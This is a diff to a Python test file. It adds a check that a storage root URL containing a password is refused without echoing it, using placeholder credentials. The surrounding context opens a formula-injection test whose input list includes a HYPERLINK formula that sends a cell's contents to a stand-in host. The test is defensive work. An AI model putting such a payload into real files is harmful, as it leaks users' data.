@@ -49,6 +49,13 @@ def test_no_files_root_is_a_clear_error_not_a_per_worker_default(monkeypatch):
         files.Storage()
 
 
+def test_a_files_root_with_a_password_in_it_is_refused_without_showing_it(monkeypatch):
+    monkeypatch.setenv(files.FILES_ROOT_ENV, "s3://AKIAEXAMPLE:s3cr3t-k3y@bucket/callfilter")
+    with pytest.raises(files.FilesRootNotSetError, match="carries a password") as err:
+        files.Storage()
+    assert "s3cr3t-k3y" not in str(err.value)
+
+
 def test_no_cell_becomes_a_formula_and_control_characters_do_not_break_the_file(tmp_path):
     hostile = [
         '=HYPERLINK("http://x/?"&B3,"y")',
